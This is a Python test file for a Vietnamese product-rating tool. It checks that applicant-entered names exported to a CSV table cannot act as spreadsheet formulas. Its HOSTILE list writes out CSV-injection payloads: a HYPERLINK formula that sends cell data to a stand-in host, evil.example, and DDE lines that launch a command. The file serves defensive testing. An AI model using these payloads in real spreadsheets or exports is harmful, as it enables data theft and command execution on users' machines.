"""The council's table as CSV: what an applicant typed never becomes a spreadsheet formula (issue 13)."""

from __future__ import annotations

import csv
import io

import pytest

from binhchon_kit.contracts.scoring import ProposalRow, ResultProposed
from binhchon_kit.exports import csv_cell
from scoring.adapters.http import proposal_csv_text

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Xem")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def row(rank: int, product: str, producer: str) -> ProposalRow:
    return ProposalRow(rank=rank, dossier_id=f"dossier-{rank}", product_name=product, producer_name=producer,
                       average_total=71.5, rating_label="3 sao", stars=3, recognised_at_level=True,
                       goes_up_a_level=False)


def test_hostile_names_are_exported_as_text() -> None:
    proposal = ResultProposed(proposal_id="proposal-1", round_id="round-1",
                              rows=[row(i + 1, name, name) for i, name in enumerate(HOSTILE)])
    text = proposal_csv_text(proposal)
    assert text.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(text[1:])))
    assert table[0][0] == "Xếp hạng"
    for line, name in zip(table[1:], HOSTILE, strict=True):
        # Text fields are stripped on the way in, so a leading tab or CR has already gone; what is left is neutral
        stored = name.strip()
        assert line[2] == line[3] == (f"'{stored}" if stored[0] in "=+-@" else stored)
        assert not line[2].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert table[1][4] == "71.50"


def test_ordinary_vietnamese_names_are_left_alone() -> None:
    proposal = ResultProposed(proposal_id="proposal-1", round_id="round-1",
                              rows=[row(1, "Mật ong rừng Lục Nam", "HTX Đông Hưng")])
    table = list(csv.reader(io.StringIO(proposal_csv_text(proposal)[1:])))
    assert table[1][2:4] == ["Mật ong rừng Lục Nam", "HTX Đông Hưng"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(f"a{start}1") == f"a{start}1"
